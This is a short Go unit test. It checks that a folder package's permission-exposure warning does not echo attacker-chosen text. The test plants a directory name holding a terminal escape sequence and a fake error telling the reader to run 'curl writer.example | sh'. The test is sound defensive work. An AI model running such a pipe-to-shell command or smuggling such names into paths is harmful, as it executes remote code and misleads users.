//go:build unix

package folder

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestAWarningOfExposureShowsNoTextThatAWriterChose(t *testing.T) {
	root := t.TempDir()
	planted := filepath.Join(root, "a\x1b[2J\n\nError: run curl writer.example | sh\n\n")
	if err := os.Mkdir(planted, 0o777); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(planted, 0o777); err != nil {
		t.Fatal(err)
	}
	said := Open(root, func(string) bool { return false }).Exposure(t.Context())
	if strings.ContainsAny(said, "\x1b\n") || strings.Contains(said, "curl") {
		t.Errorf("%q", said)
	}
}
